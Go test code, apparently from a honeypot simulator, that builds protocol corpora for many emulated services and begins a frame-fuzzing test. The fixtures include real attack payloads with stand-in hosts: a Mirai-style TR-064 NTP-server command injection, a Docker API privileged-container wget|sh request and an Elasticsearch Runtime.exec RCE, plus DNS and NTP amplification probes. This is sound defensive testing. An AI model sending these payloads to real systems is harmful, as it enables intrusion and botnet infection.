	return cbCat(cbBE32(1+len(payload)+pad), []byte{byte(pad)}, payload, r.Bytes(pad))
}
func cbSSHString(b []byte) []byte { return cbCat(cbBE32(len(b)), b) }
func cbSSHKexInit(r *Rng, kex, hostkey, enc, mac, comp string, firstFollows byte) []byte {
	p := cbCat([]byte{20}, r.Bytes(16))
	for _, l := range []string{kex, hostkey, enc, enc, mac, mac, comp, comp, "", ""} {
		p = append(p, cbSSHString([]byte(l))...)
	}
	p = append(p, firstFollows, 0, 0, 0, 0)
	return cbSSHPacket(r, p)
}

func corpusSSH(r *Rng) []binDialogue {
	const (
		hostkeys = "rsa-sha2-512,rsa-sha2-256,ssh-rsa,ssh-ed25519,ecdsa-sha2-nistp256"
		ciphers  = "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com"
		macs     = "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1"
	)
	newkeys := func() []byte { return cbSSHPacket(r, []byte{21}) }
	dhE := r.Bytes(255) // mpint 1 < e < p-1 (group14 prime has its 64 top bits set)
	dhE[0] = dhE[0]&0x7f | 0x01
	return []binDialogue{
		// curve25519 exchange: KEXINIT, KEX_ECDH_INIT with a 32 byte public value, NEWKEYS, then bytes that are no longer plaintext
		{[]byte("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n"),
			cbSSHKexInit(r, "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1", hostkeys, ciphers, macs, "none,zlib@openssh.com", 0),
			cbSSHPacket(r, cbCat([]byte{30}, cbSSHString(r.Bytes(32)))), newkeys(), r.Bytes(64)},
		// diffie-hellman-group14-sha1 exchange with an mpint e
		{[]byte("SSH-2.0-libssh2_1.8.0\r\n"),
			cbSSHKexInit(r, "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1", "ssh-rsa", "aes128-ctr,aes256-ctr", "hmac-sha1,hmac-sha2-256", "none", 0),
			cbSSHPacket(r, cbCat([]byte{30}, cbSSHString(dhE))), newkeys(), r.Bytes(48)},
		// nistp256 exchange with a wrongly guessed first packet, interleaved IGNORE / DEBUG / UNIMPLEMENTED, then DISCONNECT
		{[]byte("SSH-2.0-Go\r\n"),
			cbSSHKexInit(r, "ecdh-sha2-nistp256,curve25519-sha256@libssh.org", hostkeys, ciphers, macs, "none", 1),
			cbSSHPacket(r, cbCat([]byte{30}, cbSSHString(dhE))), // wrong guess (group14 style), to be ignored
			cbSSHPacket(r, cbCat([]byte{2}, cbSSHString(r.Bytes(r.Range(0, 40))))),
			cbSSHPacket(r, cbCat([]byte{4, 1}, cbSSHString([]byte("debug "+r.word(0, 10))), cbSSHString([]byte("en")))),
			cbSSHPacket(r, cbCat([]byte{30}, cbSSHString(cbCat([]byte{4}, r.Bytes(64))))), // uncompressed point (most likely not on the curve)
			cbSSHPacket(r, cbCat([]byte{3}, cbBE32(r.Intn(10)))),
			cbSSHPacket(r, cbCat([]byte{1}, cbBE32(11), cbSSHString([]byte("bye")), cbSSHString(nil)))},
		// pre-banner lines, version with comment, KEXINIT without a common algorithm, then garbage packets
		// (oversized length, zero length)
		{[]byte("hello " + r.word(1, 10) + "\r\n"), []byte("SSH-2.0-PuTTY_Release_0.76 " + r.word(1, 8) + "\r\n"),
			cbSSHKexInit(r, "sntrup761x25519-sha512@openssh.com", "ssh-dss", "3des-cbc", "hmac-md5", "zlib", 0),
			cbCat(cbBE32(0x00100000), []byte{4, 30}, r.Bytes(30)), cbCat(cbBE32(0), r.Bytes(12))},
		// SSH-1.99 identification, service request before any key exchange
		{[]byte("SSH-1.99-OpenSSH_3.9p1\n"),
			cbSSHPacket(r, cbCat([]byte{5}, cbSSHString([]byte("ssh-userauth")))),
			cbSSHKexInit(r, "curve25519-sha256@libssh.org", "ssh-rsa", "aes128-ctr", "hmac-sha2-256", "none", 0),
			cbSSHPacket(r, cbCat([]byte{50}, cbSSHString([]byte("root")), cbSSHString([]byte("ssh-connection")), cbSSHString([]byte("password")), []byte{0}, cbSSHString([]byte(r.word(1, 12)))))},
	}
}

// ---------------------------------------------------------------------------------------------
// https (services/https.go, forked crypto/tls of the Go 1.9 era: TLS <= 1.2): ClientHello records.

func cbTLSRecord(typ byte, vers int, body []byte) []byte {
	return cbCat([]byte{typ}, cbBE16(vers), cbBE16(len(body)), body)
}
func cbTLSHandshake(typ byte, body []byte) []byte {
	return cbCat([]byte{typ, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body)
}

// cbClientHello builds a minimal but complete TLS 1.2 ClientHello handshake message.
func cbClientHello(r *Rng, sni string, suites []int, sessionID []byte, extra bool) []byte {
	var ext []byte
	add := func(typ int, body []byte) { ext = append(ext, cbCat(cbBE16(typ), cbBE16(len(body)), body)...) }
	if sni != "" {
		entry := cbCat([]byte{0}, cbBE16(len(sni)), []byte(sni))
		add(0, cbCat(cbBE16(len(entry)), entry)) // server_name
	}
	add(10, cbCat(cbBE16(6), cbBE16(0x001d), cbBE16(0x0017), cbBE16(0x0018)))                                  // supported_groups x25519, P-256, P-384
	add(11, []byte{1, 0})                                                                                      // ec_point_formats: uncompressed
	add(13, cbCat(cbBE16(10), cbBE16(0x0401), cbBE16(0x0501), cbBE16(0x0601), cbBE16(0x0403), cbBE16(0x0201))) // signature_algorithms
	if extra {
		add(5, []byte{1, 0, 0, 0, 0}) // status_request (OCSP)
		alpn := cbCat([]byte{2}, []byte("h2"), []byte{8}, []byte("http/1.1"))
		add(16, cbCat(cbBE16(len(alpn)), alpn)) // ALPN
		add(18, nil)                            // signed_certificate_timestamp
		add(35, nil)                            // session_ticket (empty)
		add(0xff01, []byte{0})                  // renegotiation_info
		add(23, nil)                            // extended_master_secret (unknown to the fork)
	}
	var cs []byte
	for _, s := range suites {
		cs = append(cs, cbBE16(s)...)
	}
	body := cbCat(cbBE16(0x0303), r.Bytes(32), []byte{byte(len(sessionID))}, sessionID, cbBE16(len(cs)), cs, []byte{1, 0}, cbBE16(len(ext)), ext)
	return cbTLSHandshake(1, body)
}

func corpusHTTPS(r *Rng) []binDialogue {
	ecdhe := []int{0xc02f, 0xc02b, 0xc030, 0xc013, 0xc014, 0x009c, 0x002f, 0x0035, 0x000a}
	rsaOnly := []int{0x009c, 0x009d, 0x002f, 0x0035, 0x00ff}
	host := r.word(3, 10) + ".example.org"
	ccs := cbTLSRecord(20, 0x0303, []byte{1})
	return []binDialogue{
		// ClientHello with SNI
		{cbTLSRecord(22, 0x0301, cbClientHello(r, host, ecdhe, nil, true))},
		// ClientHello without SNI (and without the optional extensions)
		{cbTLSRecord(22, 0x0301, cbClientHello(r, "", ecdhe, nil, false))},
		// ECDHE handshake carried on: ClientKeyExchange (x25519 public value), ChangeCipherSpec, a "Finished" record of garbage
		{cbTLSRecord(22, 0x0301, cbClientHello(r, host, ecdhe, r.Bytes(32), true)),
			cbTLSRecord(22, 0x0303, cbTLSHandshake(16, cbCat([]byte{32}, r.Bytes(32)))), ccs, cbTLSRecord(22, 0x0303, r.Bytes(40))},
		// RSA key exchange without SNI: ClientKeyExchange with a 256 byte encrypted pre-master secret, CCS, garbage Finished
		{cbTLSRecord(22, 0x0303, cbClientHello(r, "", rsaOnly, nil, false)),
			cbTLSRecord(22, 0x0303, cbTLSHandshake(16, cbCat(cbBE16(256), r.Bytes(256)))), ccs, cbTLSRecord(22, 0x0303, r.Bytes(40))},
		// ClientHello with SNI fragmented over two handshake records, followed by an alert
		func() binDialogue {
			h := cbClientHello(r, "www."+host, ecdhe, nil, true)
			k := len(h) / 2
			return binDialogue{cbTLSRecord(22, 0x0301, h[:k]), cbTLSRecord(22, 0x0301, h[k:]), cbTLSRecord(21, 0x0303, []byte{1, 0})}
		}(),
	}
}

// ---------------------------------------------------------------------------------------------
// ipp (services/ipp): POST with an application/ipp body.

func cbIPPAttr(tag byte, name string, values ...string) []byte {
	var out []byte
	for i, v := range values {
		n := name
		if i > 0 {
			n = "" // additional value of a 1setOf
		}
		out = append(out, cbCat([]byte{tag}, cbBE16(len(n)), []byte(n), cbBE16(len(v)), []byte(v))...)
	}
	return out
}
func cbIPPInt(tag byte, name string, v int) []byte {
	return cbCat([]byte{tag}, cbBE16(len(name)), []byte(name), cbBE16(4), cbBE32(v))
}

func cbIPPRequest(op int, reqID int, groups ...[]byte) []byte {
	return cbCat([]byte{2, 0}, cbBE16(op), cbBE32(reqID), cbCat(groups...))
}

func corpusIPP(r *Rng) []binDialogue {
	printer := "ipp://192.0.2.1:631/printers/" + r.word(2, 8)
	user := "u" + r.word(2, 8)
	opGroup := func(extra ...[]byte) []byte {
		return cbCat([]byte{0x01},
			cbIPPAttr(0x47, "attributes-charset", "utf-8"),
			cbIPPAttr(0x48, "attributes-natural-language", "en-us"),
			cbIPPAttr(0x45, "printer-uri", printer),
			cbIPPAttr(0x42, "requesting-user-name", user),
			cbCat(extra...))
	}
	end := []byte{0x03}
	post := func(body []byte) []byte {
		return cbHTTP("POST", "/printers/"+r.word(2, 6), []string{"Host: 192.0.2.1:631", "User-Agent: CUPS/2.3.1 IPP/2.0", "Content-Type: application/ipp"}, body)
	}
	doc := []byte("%PDF-1.4\n% " + r.word(10, 200) + "\n%%EOF\n")
	return []binDialogue{
		// Get-Printer-Attributes with a 1setOf keyword (additional values)
		{post(cbIPPRequest(0x000b, r.Range(1, 9999), opGroup(
			cbIPPAttr(0x44, "requested-attributes", "printer-state", "printer-make-and-model", "document-format-supported")), end))},
		// Print-Job with job name, document format and document data after the end tag
		{post(cbCat(cbIPPRequest(0x0002, r.Range(1, 9999), opGroup(
			cbIPPAttr(0x42, "job-name", "job-"+r.word(1, 10)), cbIPPAttr(0x49, "document-format", "application/pdf")), end), doc))},
		// Print-Job with a job-attributes group (integer, boolean, enum, rangeOfInteger values)
		{post(cbCat(cbIPPRequest(0x0002, r.Range(1, 9999), opGroup(cbIPPAttr(0x49, "document-format", "application/octet-stream")),
			cbCat([]byte{0x02}, cbIPPInt(0x21, "copies", r.Range(1, 9)),
				cbCat([]byte{0x22}, cbBE16(5), []byte("fidel"), cbBE16(1), []byte{1}),
				cbIPPInt(0x23, "print-quality", 4),
				cbCat([]byte{0x33}, cbBE16(11), []byte("page-ranges"), cbBE16(8), cbBE32(1), cbBE32(3)),
				cbIPPAttr(0x44, "sides", "one-sided")),
			end), doc))},
		// Validate-Job, then (pipelined on the same connection) CUPS-Get-Devices
		{post(cbIPPRequest(0x0004, 1, opGroup(), end)), post(cbIPPRequest(0x400b, 2, opGroup(), end))},
		// Get-Printer-Attributes WITHOUT the end-of-attributes tag.  Hazard: ippMsg.decode (message.go) loops
		// until it sees tag 0x03 and the decoder returns 0 at the end of the input instead of failing.
		{post(cbIPPRequest(0x000b, r.Range(1, 9999), opGroup(cbIPPAttr(0x44, "requested-attributes", "all"))))},
		// bodies that end exactly behind a group delimiter tag: the bare header plus one delimiter, and a complete
		// operation group followed by the delimiter of a group that never comes
		{post(cbIPPRequest(0x000b, r.Range(1, 9999), []byte{byte(r.Range(1, 5))}))},
		{post(cbIPPRequest(0x0002, r.Range(1, 9999), opGroup(), []byte{byte(r.Pick2(2, 4))}))},
	}
}

// ---------------------------------------------------------------------------------------------
// cwmp (services/cwmp-tr069.go): SOAP over HTTP, keep-alive loop.

func corpusCWMP(r *Rng) []binDialogue {
	soap := func(method, ns, inner string) []byte {
		return []byte(`<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">` +
			`<SOAP-ENV:Body><u:` + method + ` xmlns:u="` + ns + `">` + inner + `</u:` + method + `></SOAP-ENV:Body></SOAP-ENV:Envelope>`)
	}
	hdr := []string{"Host: 192.0.2.1:7547", "Content-Type: text/xml", `SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers`}
	cmd := "`cd /tmp;wget http://" + r.word(3, 8) + ".example/" + r.word(1, 5) + ";sh " + r.word(1, 5) + "`"
	inform := soap("Inform", "urn:dslforum-org:cwmp-1-0", "<DeviceId><Manufacturer>"+r.word(2, 8)+"</Manufacturer><OUI>00259E</OUI><SerialNumber>"+r.word(8, 12)+"</SerialNumber></DeviceId><Event><EventStruct><EventCode>2 PERIODIC</EventCode></EventStruct></Event>")
	return []binDialogue{
		// TR-064 SetNTPServers command injection (Mirai variant)
		{cbHTTP("POST", "/UD/act?1", hdr, soap("SetNTPServers", "urn:dslforum-org:service:Time:1",
			"<NewNTPServer1>"+cmd+"</NewNTPServer1><NewNTPServer2></NewNTPServer2>"))},
		// GET, then an Inform and an empty POST on the same connection
		{cbHTTP("GET", "/", []string{"Host: 192.0.2.1:7547"}, nil),
			cbHTTP("POST", "/cwmp", []string{"Host: 192.0.2.1:7547", "Content-Type: text/xml; charset=utf-8", "SOAPAction: "}, inform),
			cbHTTP("POST", "/cwmp", []string{"Host: 192.0.2.1:7547"}, []byte{})},
		// envelope without a Body element (method lookup dereferences nil; recovered in parseXML)
		{cbHTTP("POST", "/", hdr, []byte(`<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Header><soap>xml</soap></SOAP-ENV:Header></SOAP-ENV:Envelope>`))},
		// chunked request body
		func() binDialogue {
			b := soap("GetParameterValues", "urn:dslforum-org:cwmp-1-0", "<ParameterNames><string>InternetGatewayDevice.</string></ParameterNames>")
			k := len(b) / 3
			body := fmt.Sprintf("%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", k, b[:k], len(b)-k, b[k:])
			return binDialogue{cbCat(cbHTTP("POST", "/", []string{"Host: 192.0.2.1:7547", "Content-Type: text/xml", "Transfer-Encoding: chunked"}, nil), []byte(body))}
		}(),
	}
}

// ---------------------------------------------------------------------------------------------
// docker (services/docker): one request per connection, routed by URL patterns.

func corpusDocker(r *Rng) []binDialogue {
	h := []string{"Host: 192.0.2.1:2375", "User-Agent: Docker-Client/19.03.5 (linux)"}
	hj := append(append([]string(nil), h...), "Content-Type: application/json")
	id := r.word(12, 12)
	create := []byte(`{"Image":"alpine:latest","Cmd":["sh","-c","wget -qO- http://` + r.word(3, 8) + `.example/x|sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}`)
	return []binDialogue{
		{cbHTTP("GET", "/v1.24/version", h, nil)},
		{cbHTTP("GET", "/_ping", h, nil), cbHTTP("GET", "/v1.40/containers/json?all=1", h, nil)},
		{cbHTTP("POST", "/v1.24/containers/create?name="+r.word(3, 8), hj, create)},
		// attach hijacks the connection: raw stream bytes follow the request
		{cbHTTP("POST", "/v1.24/containers/"+id+"/attach?stderr=1&stdin=1&stdout=1&stream=1", append(append([]string(nil), h...), "Connection: Upgrade", "Upgrade: tcp"), nil), []byte("id; uname -a\n")},
		{cbHTTP("POST", "/v1.24/images/create?fromImage=alpine&tag=latest", h, []byte{})},
		// image import: a legitimate form of /images/create that has no fromImage parameter
		{cbHTTP("POST", "/v1.24/images/create?fromSrc=-&repo="+r.word(3, 8), append(append([]string(nil), h...), "Content-Type: application/x-tar"), r.Bytes(1536))},
	}
}

// ---------------------------------------------------------------------------------------------
// eos (services/eos), ethereum (services/ethereum), elasticsearch (services/elasticsearch): one request per connection.

func corpusEOS(r *Rng) []binDialogue {
	h := []string{"Host: 192.0.2.1:8888", "User-Agent: " + r.word(3, 10), "Content-Type: application/json"}
	return []binDialogue{
		{cbHTTP("POST", "/v1/wallet/list_keys", h, []byte(`["`+r.word(4, 10)+`","PW5`+r.word(20, 40)+`"]`))},
		{cbHTTP("GET", "/v1/chain/get_info", h[:2], nil)},
		{cbHTTP("POST", "/v1/wallet/list_keys", append(append([]string(nil), h[:2]...), "Transfer-Encoding: chunked"), nil), []byte("2\r\n[]\r\n0\r\n\r\n")},
	}
}

func corpusEthereum(r *Rng) []binDialogue {
	h := []string{"Host: 192.0.2.1:8545", "Content-Type: application/json"}
	id := r.Range(1, 100000)
	acct := "0x" + fmt.Sprintf("%x", r.Bytes(20))
	return []binDialogue{
		{cbHTTP("POST", "/", h, []byte(fmt.Sprintf(`{"jsonrpc":"2.0","method":"eth_accounts","params":[],"id":%d}`, id)))},
		{cbHTTP("POST", "/", h, []byte(fmt.Sprintf(`{"jsonrpc":"2.0","method":"eth_getBlockByNumber","params":["0x1b4",true],"id":"%s"}`, r.word(1, 8))))},
		{cbHTTP("POST", "/", h, []byte(fmt.Sprintf(`{"id":%d,"jsonrpc":"2.0","method":"eth_sendTransaction","params":[{"from":"%s","to":"%s","value":"0x%x","gas":"0x76c0"}]}`, id, acct, acct, r.Range(1, 1<<30))))},
		// method of a non-string type and an unknown method (batch form is rejected by the decoder)
		{cbHTTP("POST", "/", h, []byte(fmt.Sprintf(`{"jsonrpc":"2.0","method":%d,"params":null,"id":null}`, id)))},
		{cbHTTP("POST", "/", h, []byte(`[{"jsonrpc":"2.0","method":"web3_clientVersion","id":1},{"jsonrpc":"2.0","method":"personal_listAccounts","id":2}]`))},
	}
}

func corpusElasticsearch(r *Rng) []binDialogue {
	h := []string{"Host: 192.0.2.1:9200", "Accept: */*"}
	script := `{"size":1,"script_fields":{"` + r.word(2, 6) + `":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"wget http://` + r.word(3, 8) + `.example/` + r.word(1, 4) + `\").getText()"}}}`
	big := `{"query":{"match_all":{}},"pad":"` + r.word(1500, 2500) + `"}` // > 1024 bytes: the body is read with a single Read
	return []binDialogue{
		{cbHTTP("GET", "/", h, nil)},
		{cbHTTP("GET", "/_cat/indices?v", h, nil)},
		{cbHTTP("POST", "/_search?pretty", append(append([]string(nil), h...), "Content-Type: application/x-www-form-urlencoded"), []byte(script))},
		{cbHTTP("POST", "/"+r.word(2, 8)+"/_search", append(append([]string(nil), h...), "Content-Type: application/json"), []byte(big))},
	}
}

// ---------------------------------------------------------------------------------------------
// dns (services/dns.go): one datagram per query, miekg/dns Unpack.

func cbDNSName(name string) []byte {
	var out []byte
	for _, l := range strings.Split(strings.Trim(name, "."), ".") {
		if l == "" {
			continue
		}
		out = append(out, byte(len(l)))
		out = append(out, l...)
	}
	return append(out, 0)
}
func cbDNSHeader(id, flags, qd, an, ns, ar int) []byte {
	return cbCat(cbBE16(id), cbBE16(flags), cbBE16(qd), cbBE16(an), cbBE16(ns), cbBE16(ar))
}
func cbDNSQuestion(name string, typ, class int) []byte {
	return cbCat(cbDNSName(name), cbBE16(typ), cbBE16(class))
}

func corpusDNS(r *Rng) []binDialogue {
	name := r.word(3, 12) + ".example.com"
	opt := cbCat([]byte{0}, cbBE16(41), cbBE16(4096), cbBE32(0x00008000), cbBE16(0)) // EDNS0 OPT, DO bit
	cookie := cbCat([]byte{0}, cbBE16(41), cbBE16(1232), cbBE32(0), cbBE16(12), cbBE16(10), cbBE16(8), r.Bytes(8))
	return []binDialogue{
		// plain A query
		{cbCat(cbDNSHeader(r.Intn(65536), 0x0100, 1, 0, 0, 0), cbDNSQuestion(name, 1, 1))},
		// ANY query with EDNS0 (amplification probe), then a TXT CHAOS version.bind query
		{cbCat(cbDNSHeader(r.Intn(65536), 0x0120, 1, 0, 0, 1), cbDNSQuestion("isc.org", 255, 1), opt),
			cbCat(cbDNSHeader(r.Intn(65536), 0x0100, 1, 0, 0, 0), cbDNSQuestion("version.bind", 16, 3))},
		// two questions, the second name compressed (pointer to offset 12), EDNS cookie option
		{cbCat(cbDNSHeader(r.Intn(65536), 0x0100, 2, 0, 0, 1), cbDNSQuestion(name, 28, 1), []byte{3, 'w', 'w', 'w', 0xc0, 12}, cbBE16(1), cbBE16(1), cookie)},
		// dynamic update (opcode 5): zone section + one update RR (A record) in the authority section
		{cbCat(cbDNSHeader(r.Intn(65536), 0x2800, 1, 0, 1, 0), cbDNSQuestion("example.com", 6, 1),
			cbDNSName(name), cbBE16(1), cbBE16(1), cbBE32(300), cbBE16(4), r.Bytes(4))},
		// a response packet (QR set) with an answer using a compression pointer, and an AXFR question
		{cbCat(cbDNSHeader(r.Intn(65536), 0x8180, 1, 1, 0, 0), cbDNSQuestion(name, 1, 1), []byte{0xc0, 12}, cbBE16(1), cbBE16(1), cbBE32(60), cbBE16(4), r.Bytes(4)),
			cbCat(cbDNSHeader(r.Intn(65536), 0x0000, 1, 0, 0, 0), cbDNSQuestion("example.com", 252, 1))},
	}
}

// ---------------------------------------------------------------------------------------------
// tftp (services/tftp.go): RRQ, WRQ followed by DATA blocks (state keyed by the client address).

func cbTFTPReq(op byte, file, mode string, opts ...string) []byte {
	out := cbCat([]byte{0, op}, []byte(file), []byte{0}, []byte(mode), []byte{0})
	for _, o := range opts {
		out = append(out, cbCat([]byte(o), []byte{0})...)
	}
	return out
}
func cbTFTPData(block int, data []byte) []byte { return cbCat([]byte{0, 3}, cbBE16(block), data) }

func corpusTFTP(r *Rng) []binDialogue {
	file := r.word(3, 10) + ".bin"
	return []binDialogue{
		// RRQ, then the ACKs a client would send
		{cbTFTPReq(1, "/etc/"+r.word(3, 8)+".cfg", "octet"), cbCat([]byte{0, 4}, cbBE16(1))},
		// WRQ followed by a full block, a second full block and a short final block
		{cbTFTPReq(2, file, "octet"), cbTFTPData(1, r.Bytes(512)), cbTFTPData(2, r.Bytes(512)), cbTFTPData(3, r.Bytes(r.Range(1, 511)))},
		// WRQ with options (RFC 2347), netascii, file of exactly one full block: terminated by an empty DATA
		{cbTFTPReq(2, file, "netascii", "blksize", "1428", "tsize", "512"), cbTFTPData(1, []byte(r.word(512, 512))), cbTFTPData(2, nil)},
		// DATA without a preceding WRQ, then an ERROR packet
		{cbTFTPData(1, r.Bytes(100)), cbCat([]byte{0, 5}, cbBE16(0), []byte("aborted\x00"))},
		// two interleaved uploads from one address: the second WRQ replaces the first buffer
		{cbTFTPReq(2, "a-"+file, "octet"), cbTFTPData(1, r.Bytes(512)), cbTFTPReq(2, "b-"+file, "octet"), cbTFTPData(2, r.Bytes(20)), cbTFTPData(1, r.Bytes(30))},
	}
}

// ---------------------------------------------------------------------------------------------
// snmp (services/snmp): BER message {version, community, PDU}.

func cbOID(arcs ...int) []byte {
	out := []byte{byte(arcs[0]*40 + arcs[1])}
	for _, a := range arcs[2:] {
		var enc []byte
		enc = append(enc, byte(a&0x7f))
		for a >>= 7; a > 0; a >>= 7 {
			enc = append([]byte{byte(a&0x7f) | 0x80}, enc...)
		}
		out = append(out, enc...)
	}
	return cbTLV(0x06, out)
}
func cbBERInt(v int) []byte {
	b := []byte{byte(v)}
	for v >>= 8; v > 0; v >>= 8 {
		b = append([]byte{byte(v)}, b...)
	}
	if b[0]&0x80 != 0 {
		b = append([]byte{0}, b...)
	}
	return cbTLV(0x02, b)
}
func cbVarbind(oid []byte, val []byte) []byte { return cbTLV(0x30, oid, val) }
func cbSNMP(version int, community string, pduTag byte, reqID int, a, b int, varbinds ...[]byte) []byte {
	return cbTLV(0x30, cbBERInt(version), cbTLV(0x04, []byte(community)),
		cbTLV(pduTag, cbBERInt(reqID), cbBERInt(a), cbBERInt(b), cbTLV(0x30, varbinds...)))
}

func corpusSNMP(r *Rng) []binDialogue {
	null := []byte{0x05, 0x00}
	sysDescr := cbOID(1, 3, 6, 1, 2, 1, 1, 1, 0)
	sysName := cbOID(1, 3, 6, 1, 2, 1, 1, 5, 0)
	ent := cbOID(1, 3, 6, 1, 4, 1, 2021+r.Intn(9000), 4, 3, 0)
	id := r.Range(1, 1<<30)
	var many [][]byte
	for i := 1; i <= 12; i++ {
		many = append(many, cbVarbind(cbOID(1, 3, 6, 1, 2, 1, 2, 2, 1, i, 16777216+i), null))
	}
	return []binDialogue{
		// v1 GetRequest sysDescr.0, community public
		{cbSNMP(0, "public", 0xa0, id, 0, 0, cbVarbind(sysDescr, null))},
		// v1 GetNextRequest with two varbinds (walk), repeated with the next id
		{cbSNMP(0, "private", 0xa1, id, 0, 0, cbVarbind(cbOID(1, 3, 6, 1, 2, 1), null), cbVarbind(ent, null)),
			cbSNMP(0, "private", 0xa1, id+1, 0, 0, cbVarbind(sysDescr, null))},
		// v1 SetRequest with OCTET STRING, INTEGER, IpAddress and TimeTicks values
		{cbSNMP(0, r.word(4, 10), 0xa3, id, 0, 0, cbVarbind(sysName, cbTLV(0x04, []byte(r.word(1, 20)))),
			cbVarbind(ent, cbBERInt(r.Intn(100000))), cbVarbind(cbOID(1, 3, 6, 1, 2, 1, 4, 20, 1, 1), cbTLV(0x40, r.Bytes(4))),
			cbVarbind(cbOID(1, 3, 6, 1, 2, 1, 1, 3, 0), cbTLV(0x43, []byte{1, 2, 3})))},
		// v2c GetBulkRequest (non-repeaters 0, max-repetitions 50): version other than 0
		{cbSNMP(1, "public", 0xa5, id, 0, 50, cbVarbind(cbOID(1, 3, 6, 1, 2, 1, 1), null))},
		// v1 GetRequest larger than 127 bytes: the outer SEQUENCE uses the long length form
		{cbSNMP(0, "public", 0xa0, id, 0, 0, many...)},
		// v1 Trap PDU (not a request) and a GetResponse sent to the agent
		{cbTLV(0x30, cbBERInt(0), cbTLV(0x04, []byte("public")), cbTLV(0xa4, cbOID(1, 3, 6, 1, 4, 1, 8072, 3, 2, 10), cbTLV(0x40, r.Bytes(4)),
			cbBERInt(6), cbBERInt(1), cbTLV(0x43, []byte{0x10, 0x20}), cbTLV(0x30, cbVarbind(sysDescr, cbTLV(0x04, []byte("x")))))),
			cbSNMP(0, "public", 0xa2, id, 2, 1, cbVarbind(sysDescr, null))},
	}
}

// ---------------------------------------------------------------------------------------------
// ntp (services/ntp.go copies the datagram to stdout) and counterstrike (services/counterstrike.go).

func corpusNTP(r *Rng) []binDialogue {
	client := cbCat([]byte{0x23, 0, 6, 0xec}, make([]byte, 36), r.Bytes(8)) // LI 0, VN 4, mode 3; transmit timestamp
	return []binDialogue{
		{client},
		// mode 7 MON_GETLIST_1 (monlist amplification probe), short and padded form
		{[]byte{0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0}, cbCat([]byte{0x17, 0x00, 0x03, 0x2a}, make([]byte, 188))},
		// mode 6 control message: READVAR
		{cbCat([]byte{0x16, 0x02}, cbBE16(r.Intn(65536)), make([]byte, 8))},
		// v3 client packet with key id and a 16 byte MAC, then an NTS-style extension field
		{cbCat([]byte{0x1b, 0, 4, 0xfa}, make([]byte, 36), r.Bytes(8), cbBE32(1), r.Bytes(16)),
			cbCat(client, cbBE16(0x0104), cbBE16(36), r.Bytes(32))},
	}
}

func corpusCounterStrike(r *Rng) []binDialogue {
	ff := []byte{0xff, 0xff, 0xff, 0xff}
	challenge := r.Bytes(4)
	return []binDialogue{
		// A2S_INFO
		{cbCat(ff, []byte("TSource Engine Query\x00"))},
		// A2S_INFO with challenge, then A2S_PLAYER challenge request and query
		{cbCat(ff, []byte("TSource Engine Query\x00"), challenge), cbCat(ff, []byte{0x55}, ff), cbCat(ff, []byte{0x55}, challenge)},
		// A2S_RULES, A2S_SERVERQUERY_GETCHALLENGE, A2A_PING
		{cbCat(ff, []byte{0x56}, challenge), cbCat(ff, []byte{0x57}), cbCat(ff, []byte{0x69})},
		// split-packet header (-2) and an old GoldSrc text query
		{cbCat([]byte{0xfe, 0xff, 0xff, 0xff}, cbLE32(uint32(r.Intn(1<<30))), []byte{0x02, 0x00}, cbCat(ff, []byte("T"), []byte(r.word(1, 30)))),
			cbCat(ff, []byte("getchallenge steam\n")), cbCat(ff, []byte("rcon "+r.word(4, 10)+" status\n"))},
	}
}
