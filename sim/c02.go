package htsim

import (
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"testing"
	"testing/synctest"
	"time"
)

// C02 — no frame on the wire can terminate the raw (canary) listener.
//
// Frame histories into the simulated NIC, consumed by the real Start() loop: field-boundary frames
// (IHL, total length, protocol, TCP data offset and option layouts, UDP length, short ICMP, ARP),
// random bytes, SYN floods up to 70,000 half-open connections inside and across the 30 s slot-reuse
// horizon; ARP/route tables with and without an entry for the peer; EINTR from epoll_wait.
// Oracle: the worker survives (driver) and a well-formed UDP probe sent afterwards yields its event.

func init() {
	engines["C02"] = &Engine{Gen: genC02, Run: runC02}
}

func c02Frame(r *Rng, peer net.IP, known bool) ([]byte, string) {
	srcMAC := peerMAC(peer)
	if !known {
		srcMAC = gatewayMAC
	}
	dst := sensorRaw
	if r.Chance(0.1) {
		dst = net.IPv4(10, 9, 9, 9).To4()
	}
	sport, dport := uint16(r.Range(1, 65535)), uint16(r.Range(1, 65535))
	if r.Chance(0.3) {
		dport = []uint16{53, 123, 1900, 5060, 161, 162, 23, 80, 443, 139, 445, 1433, 6379, 9200, 22}[r.Intn(15)]
	}
	switch r.Intn(14) {
	case 0: // random bytes, any length >= 14
		n := r.Range(14, 200)
		if r.Chance(0.2) {
			n = r.Range(200, 1600)
		}
		return r.Bytes(n), "random"
	case 1: // random payload behind a valid ethernet header
		typ := []uint16{0x0800, 0x0806, 0x86dd, 0x8100, 0x0000, 0xffff}[r.Intn(6)]
		return ethFrame(sensorMAC, srcMAC, typ, r.Bytes(r.Range(0, 120))), "eth-random"
	case 2: // IPv4 header field boundaries
		seg := tcpSegment(peer, dst, sport, dport, r.Uint32(), 0, tcpSYN, 1024, nil, nil)
		pkt := ipv4Packet(peer, dst, []byte{1, 2, 6, 17, 47, 255}[r.Intn(6)], 1, seg)
		// one to three of the header fields are off at the same time (self-inconsistent headers)
		full := len(pkt)
		for k := r.Range(1, 3); k > 0; k-- {
			switch r.Intn(5) {
			case 0:
				if len(pkt) > 0 {
					pkt[0] = pkt[0]&0xf0 | byte(r.Intn(16)) // IHL 0..15
				}
			case 1:
				if len(pkt) > 3 {
